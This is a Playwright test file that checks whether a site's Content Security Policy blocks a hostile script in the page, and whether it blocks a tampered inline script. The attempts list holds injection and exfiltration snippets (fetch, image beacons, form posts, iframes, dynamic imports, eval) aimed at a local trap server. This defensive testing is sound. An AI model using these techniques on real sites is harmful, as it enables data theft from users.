import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { expect, test } from "../fixtures.ts";

/** What a hostile script inside a page would try, one way for each directive that must stop it. `trap` is another host. */
const attempts = [
  ["fetch", "fetch(trap)", "connect-src"],
  ["image", "new Image().src = trap + 'secret.png'", "img-src"],
  [
    "font",
    "document.fonts.add(new FontFace('x', 'url(' + trap + ')')); document.fonts.load('1px x')",
    "font-src",
  ],
  ["media", "new Audio(trap).load()", "media-src"],
  ["style element", "add('style', { textContent: 'body { color: red }' })", "style-src-elem"],
  ["style attribute", "document.body.setAttribute('style', 'color: red')", "style-src-attr"],
  ["frame", "add('iframe', { src: trap })", "frame-src"],
  ["form post", "add('form', { action: trap, method: 'post' }).submit()", "form-action"],
  ["base address", "add('base', { href: trap })", "base-uri"],
  ["module", "import(trap + 'x.js')", "script-src-elem"],
  ["eval", "eval('1')", "require-trusted-types-for"],
  ["innerHTML", "document.body.innerHTML = '<b>x</b>'", "require-trusted-types-for"],
  ["Trusted Types policy", "trustedTypes.createPolicy('x', { createHTML: (x) => x })", "trusted-types"],
] as const;

/** A module of the site's own origin under the site's own headers: what a compromised script would be. */
const probe = (code: string, trap: string) => `
  const trap = ${JSON.stringify(trap)};
  const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
  globalThis.violations = [];
  document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
  try { await (async () => { ${code} })(); } catch {}
  globalThis.tried = true;
`;

/** Opens a page whose only script is the probe and returns the directives that were violated. */
async function violationsOf(page: Page, code: string, trap: string): Promise<string[]> {
  await page.unrouteAll();
  await page.route("/probe.js", (route) =>
    route.fulfill({ contentType: "text/javascript", body: probe(code, trap) }),
  );
  await page.route("/", async (route) => {
    const response = await route.fetch();
    const body = '<!doctype html><body><script type="module" src="/probe.js"></script></body>';
    await route.fulfill({ response, body });
  });
  // Not until it has loaded: a form that is stopped leaves the browser loading.
  await page.goto("/", { waitUntil: "commit" });
  await page.waitForFunction(() => "tried" in globalThis && Reflect.get(globalThis, "violations").length > 0);
  return page.evaluate(() => Reflect.get(globalThis, "violations") as string[]);
}

test("a hostile script in the page is stopped whatever it tries", async ({ browser, baseURL }) => {
  const visitors: string[] = [];
  const trap = createServer((request, response) => {
    visitors.push(`${request.method} ${request.url}`);
    response.end();
  }).listen(0, "127.0.0.1");
  await once(trap, "listening");
  const trapAddress = `http://127.0.0.1:${(trap.address() as AddressInfo).port}/`;
  // A context of its own: the complaints that fail other tests are the point of this one.
  const context = await browser.newContext({ baseURL: String(baseURL) });
  const page = await context.newPage();
  for (const [name, code, directive] of attempts)
    await test.step(name, async () => {
      expect(await violationsOf(page, code, trapAddress), name).toContain(directive);
      expect(page.url()).toBe(`${baseURL}/`);
      expect(visitors, name).toEqual([]);
    });
  await context.close();
  trap.close();
});

test("a script inside a page, changed on its way, is not run", async ({ page, expectProblem }) => {
  expectProblem(/Content Security Policy/);
  await page.route("/", async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace("<script>", "<script>globalThis.changed = true;");
    await route.fulfill({ response, body });
  });
  await page.goto("/", { waitUntil: "load" });
  expect(await page.evaluate(() => "changed" in globalThis)).toBe(false);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
});
